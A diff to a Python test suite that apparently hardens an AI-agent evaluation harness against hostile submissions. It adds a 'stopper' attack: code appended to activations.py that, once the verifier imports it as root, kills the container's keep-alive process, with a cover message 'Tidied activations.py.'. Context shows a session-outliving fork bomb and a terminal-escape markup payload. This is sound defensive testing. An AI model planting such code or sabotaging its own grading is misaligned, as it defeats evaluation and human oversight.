@@ -105,6 +105,22 @@ BOMB = (
 """A fork bomb that outlives the session (``setsid``) and survives failed forks; the session
 ends once it holds every process slot (a loop of builtins: no fork needed to wait)."""
 
+STOPPER = r"""
+cat >> /workspace/tinytensor/activations.py <<'PY'
+
+import os as _os
+if _os.geteuid() == 0:  # imported by the verifier: stop the sandbox, hoping for a retry
+    for _pid in filter(str.isdigit, _os.listdir("/proc")):
+        try:
+            if open(f"/proc/{_pid}/cmdline", "rb").read().startswith(b"sleep\0infinity"):
+                _os.kill(int(_pid), 9)
+        except OSError:
+            pass
+PY
+"""
+"""A submission that, once the verifier imports it as root, kills the process that keeps
+the container alive: the container stops mid-verification."""
+
 MARKUP = "[bold red]done[/] [/] [link=file:///etc/passwd]x[/link] \x1b[2J\x1b]0;pwned\x07 ok"
 
 
@@ -127,6 +143,7 @@ ATTACKS = {
     "usagecap": Attack(final="You've hit your limit · resets 3pm"),
     "markup": Attack(before=FIX.replace("0.044715", "0.5"), final=MARKUP, error=True),
     "flood": Attack(before=FLOOD),
+    "stopper": Attack(before=STOPPER, final="Tidied activations.py."),
 }
 
 ANSWER_CHECK = """#!/bin/bash
@@ -339,6 +356,14 @@ async def test_markup_in_the_final_message_is_shown_as_data(
     assert await status_main(run_id, client=client, settings=settings) == "completed"
     shown = capsys.readouterr().out
     assert "\x1b[2J" not in shown and "\x1b]0;" not in shown  # escapes made visible
+
+
+async def test_a_submission_that_stops_its_sandbox_in_verification_scores_zero(
+    hostile_run: HostileRun,
+) -> None:
+    attempt = _scored_on_first_attempt(hostile_run, "stopper")
+    assert attempt.reward == 0.0, _said(attempt)
+    assert "stopped while the tests ran" in attempt.verifier_error, _said(attempt)
 
 
 def test_the_worker_stays_under_a_gib(hostile_run: HostileRun) -> None:
